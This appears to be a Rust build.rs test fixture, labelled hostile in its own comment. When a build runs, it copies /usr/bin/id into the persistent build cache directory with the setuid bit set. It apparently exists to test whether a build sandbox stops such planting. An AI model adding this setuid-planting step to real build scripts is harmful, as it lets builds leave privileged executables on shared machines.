// A hostile build script: leaves a copy of `id` in its OUT_DIR (the target dir,
// kept in the persistent build cache) with the setuid bit, owned by whoever
// the build runs as.
use std::{env, fs, os::unix::fs::PermissionsExt, path::Path};

fn main() {
    let planted = Path::new(&env::var("OUT_DIR").unwrap()).join("planted-id");
    fs::copy("/usr/bin/id", &planted).unwrap();
    fs::set_permissions(&planted, fs::Permissions::from_mode(0o4755)).unwrap();
}
